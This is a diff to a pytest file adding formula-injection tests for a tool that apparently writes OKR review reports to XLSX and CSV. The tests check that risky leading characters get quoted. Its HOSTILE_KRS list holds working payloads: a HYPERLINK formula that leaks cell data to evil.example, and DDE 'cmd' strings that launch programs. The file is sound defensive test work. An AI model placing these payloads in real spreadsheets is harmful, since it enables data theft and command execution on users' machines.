@@ -13,7 +13,7 @@ from report_samples import CSV_HEADER, CSV_ROWS, make_findings, make_review, rd_
 
 from assistant.model import SourceRef
 from assistant.reports import render
-from assistant.reports._xlsx import _sheet_name
+from assistant.reports._xlsx import FORMULA_TRIGGERS, _sheet_name, neutralise
 from assistant.review import Review
 
 
@@ -89,8 +89,8 @@ def test_severity_cells_are_coloured_and_messages_wrap(review: Review) -> None:
 
 def test_text_starting_with_equals_stays_text(review: Review) -> None:
     ws = _open(review)["OKR"]
-    cell = next(row[4] for row in ws.iter_rows(min_row=2) if row[4].value and row[4].value.startswith("="))
-    assert cell.value == "=维持现有值班制度"
+    cell = next(row[4] for row in ws.iter_rows(min_row=2) if row[4].value and "=维持" in row[4].value)
+    assert cell.value == "'=维持现有值班制度"  # quoted as OWASP advises, so an edit or CSV export cannot arm it
     assert cell.data_type == "s"
 
 
@@ -135,7 +135,7 @@ def test_original_csv_annotated_and_unchanged(tmp_path: Path) -> None:
     width = len(CSV_HEADER)
     assert rows[0] == [*CSV_HEADER, "严重程度", "规则代码", "发现"]
     for original, copied in zip(CSV_ROWS, rows[1:], strict=True):
-        assert [v or "" for v in copied[:width]] == original
+        assert [v or "" for v in copied[:width]] == [neutralise(v) for v in original]
     assert rows[1][width : width + 2] == ["严重", "MEA002, MEA001"]
     assert rows[1][width + 2].startswith("MEA002 · O1.KR1：“提升”说明了方向")
     assert "\n→ 把“提升”换成具体指标和目标值" in rows[1][width + 2]
@@ -254,3 +254,62 @@ def test_end_to_end_with_the_importer_and_engine(tmp_path: Path, monkeypatch: py
         assert set(rows[number - 1][-2].split(", ")) >= codes, number
     unmarked = [n for n in range(2, len(rows) + 1) if n not in expected]
     assert all(rows[n - 1][-2] is None for n in unmarked)
+
+
+# ---------------------------------------------------------------- formula injection (issue 14)
+
+HOSTILE_KRS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "＝1+1",
+]
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@A1", "'@A1"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("＋1", "'＋1"),
+        ("'=1", "'=1"),  # already quoted: left alone, never doubled
+        ("提升 = 目标", "提升 = 目标"),
+        ("", ""),
+    ],
+)
+def test_neutralise(text: str, expected: str) -> None:
+    assert neutralise(text) == expected
+
+
+def test_no_cell_starts_with_a_formula_trigger(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """KRs starting with = + - @ (and tab, CR, full-width =) are quoted in every sheet, the input copy too."""
+    from assistant.config import Config
+    from assistant.engine import check
+    from assistant.importers import load_paths
+    from assistant.reports import write_report
+
+    lines = ["目标,关键结果,负责人"] + [f'让客户满意,"{kr.replace(chr(34), chr(34) * 2)}",张三' for kr in HOSTILE_KRS]
+    (tmp_path / "hostile.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
+    monkeypatch.chdir(tmp_path)
+    loaded = load_paths(["hostile.csv"])
+    assert loaded.sets, loaded.problems
+    review = Review(inputs=["hostile.csv"], sets=loaded.sets, findings=check(loaded.sets, Config()))
+    write_report(review, "xlsx", tmp_path / "report.xlsx")
+
+    book = openpyxl.load_workbook(tmp_path / "report.xlsx")
+    texts = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
+    armed = [c.value for c in texts if c.value.startswith(FORMULA_TRIGGERS)]
+    assert armed == []
+    assert all(c.data_type == "s" for c in texts)
+    copied = [row[1] for row in book["hostile.csv"].iter_rows(min_row=2, values_only=True)]
+    # The original rows, each quoted once (XML reads a carriage return back as a line feed).
+    assert copied == ["'" + kr.replace("\r", "\n") for kr in HOSTILE_KRS]
+    okr_cells = {c.value for c in texts if c.parent.title == "OKR"}
+    assert {"'=HYPERLINK", "'+1+cmd", "'-2+3+cmd", "'@SUM"} <= {v.split("(")[0].split("|")[0] for v in okr_cells}
